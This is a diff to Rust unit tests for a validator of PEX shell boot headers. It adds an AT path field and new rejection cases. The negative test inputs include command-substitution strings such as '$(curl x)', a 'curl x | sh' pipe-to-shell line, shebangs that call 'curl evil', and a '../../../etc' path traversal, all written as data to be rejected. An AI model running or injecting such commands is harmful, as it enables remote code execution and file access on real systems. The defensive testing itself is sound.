@@ -789,12 +789,12 @@ mod tests {
         let source = concat!(
             "def f():\n    return dedent(\n        \"\"\"\\\n",
             "        # INSTALLED_PEX\n        VENV=\"{venv}\"\n        PEX=\"{pex}\"\n",
-            "        ROOT=\"{pex_root}\"\n",
+            "        ROOT=\"{pex_root}\"\n        AT=\"{pex_installed_relpath}\"\n",
             "        \"\"\"\n    ).format(venv=v, pex=p)\n"
         );
         fs::write(venv.path().join("pex/sh_boot.py"), source).unwrap();
         let check = |header: &str| check_header(venv.path(), header.as_bytes(), None);
-        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\n";
+        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\nAT=\"venvs/1/ab\"\n";
         check(good).unwrap();
         check("").unwrap();
         check("#!/usr/bin/env python3\n").unwrap();
@@ -803,6 +803,8 @@ mod tests {
             good.replace("$0", "$(curl x)"),
             good.replace("~/.pex", "$(curl x)"),
             good.replace("~/.pex", ""),
+            good.replace("venvs/1/ab", "venvs/../../../etc"),
+            good.replace("venvs/1/ab", "venvs/$(x)"),
             format!("{good}curl x | sh\n"),
             "#!curl evil\n".to_string(),
             "#!/bin/sh;curl evil|sh\n".to_string(),
